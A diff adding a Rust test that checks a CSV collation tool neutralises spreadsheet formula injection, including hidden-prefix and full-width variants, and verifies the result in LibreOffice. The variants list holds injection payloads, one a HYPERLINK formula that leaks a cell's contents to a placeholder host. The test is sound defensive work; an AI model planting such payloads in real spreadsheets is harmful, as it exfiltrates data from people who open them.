@@ -590,3 +590,99 @@ fn a_missing_path_or_nothing_to_collate_is_a_failure() {
     assert_eq!(o.status.code(), Some(1));
     assert!(String::from_utf8_lossy(&o.stderr).contains("nothing could be collated"));
 }
+
+/// Every way a text can hide a formula from a check of its first character (leading NUL, tab,
+/// CR, LF, vertical tab, form feed, no-break and ideographic spaces, plain spaces, full-width
+/// signs) goes through `iacmh collate` to CSV: read back with Python's csv, each is neutralised
+/// and otherwise exact, and no NUL is written. Where LibreOffice is installed (`soffice`; not in
+/// CI), the CSV is also opened in it, with and without its "trim spaces" import option, and the
+/// converted sheets hold no formula (a control file with a bare `=1+1` shows that they would).
+#[test]
+fn every_hidden_formula_variant_is_inert_in_csv_and_in_libreoffice() {
+    let variants = [
+        "=1+1",
+        "+1+1",
+        "-1+1",
+        "@SUM(1,1)",
+        "\u{0}=1+1",
+        "\u{0}\u{0}=HYPERLINK(\"http://x/?leak=\"&A2,\"details\")",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "\u{b}=1+1",
+        "\u{c}=1+1",
+        "\u{a0}=1+1",
+        "\u{3000}=1+1",
+        " =1+1",
+        "   +1+1",
+        "\u{0} \t=1+1",
+        "＝1+1",
+        "＋1+1",
+        "－1+1",
+        "＠SUM(1,1)",
+        "- a bullet list, as NHS papers write them",
+    ];
+    let dir = scratch("variants");
+    let mut v = example();
+    let ids: Vec<String> = (1..=variants.len()).map(|n| format!("1.{n:02}")).collect();
+    for (id, text) in ids.iter().zip(variants) {
+        v["maturity"]["answers"][id.as_str()]["comment"] = json!(text);
+    }
+    std::fs::write(dir.join("returns/variants.json"), serde_json::to_string_pretty(&v).unwrap()).unwrap();
+    let out = dir.join("variants.csv");
+    let o = iacmh(&["collate", dir.join("returns").to_str().unwrap(), "--out", out.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
+    let questions = dir.join("variants-questions.csv");
+    let bytes = std::fs::read(&questions).unwrap();
+    assert!(!bytes.contains(&0), "a NUL was written");
+
+    let script = r#"
+import csv, json, sys
+with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
+    rows = {r["question"]: r["comment"] for r in csv.DictReader(f)}
+print(json.dumps(rows))
+"#;
+    let o = Command::new(python()).args(["-c", script, questions.to_str().unwrap()]).output().expect("run python");
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    let rows: Value = serde_json::from_slice(&o.stdout).unwrap();
+    for (id, text) in ids.iter().zip(variants) {
+        let cell = rows[id.as_str()].as_str().unwrap_or_else(|| panic!("no row for {id}: {rows}"));
+        assert_eq!(cell, format!("'{}", text.replace('\u{0}', "")), "question {id}");
+    }
+
+    let soffice_here = Command::new("soffice").arg("--version").output().is_ok_and(|o| o.status.success());
+    if !soffice_here {
+        eprintln!("LibreOffice (soffice) is not installed: the CSV was checked with Python's csv only");
+        return;
+    }
+    // A control: LibreOffice does run a bare formula from a CSV, so a count of 0 below means something.
+    let control = dir.join("control.csv");
+    std::fs::write(&control, "a,b\n=1+1, =2+2\n").unwrap();
+    // CSV import options: comma, double quote, UTF-8, from line 1; the second adds "trim spaces"
+    // (token 11), under which a leading space no longer hides a formula: the control's second
+    // cell becomes one too.
+    for (options, in_control) in [("44,34,76,1", 1), ("44,34,76,1,,1033,false,false,false,false,true", 2)] {
+        let formulas = |csv: &Path| -> u64 {
+            let outdir = dir.join("lo-out");
+            let profile = format!("file://{}", dir.join("lo-profile").display());
+            let o = Command::new("soffice")
+                .args(["--headless", "--norestore", &format!("-env:UserInstallation={profile}")])
+                .arg(format!("--infilter=CSV:{options}"))
+                .args(["--convert-to", "xlsx", "--outdir", outdir.to_str().unwrap(), csv.to_str().unwrap()])
+                .output()
+                .expect("run soffice");
+            assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+            let xlsx = outdir.join(csv.with_extension("xlsx").file_name().unwrap());
+            let count = r#"
+import sys, openpyxl
+wb = openpyxl.load_workbook(sys.argv[1])
+print(sum(1 for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"))
+"#;
+            let o = Command::new(python()).args(["-c", count, xlsx.to_str().unwrap()]).output().expect("run python");
+            assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+            String::from_utf8_lossy(&o.stdout).trim().parse().unwrap()
+        };
+        assert_eq!(formulas(&control), in_control, "LibreOffice ran the control's formulas (options {options})");
+        assert_eq!(formulas(&questions), 0, "no formula from the collated CSV (options {options})");
+    }
+}
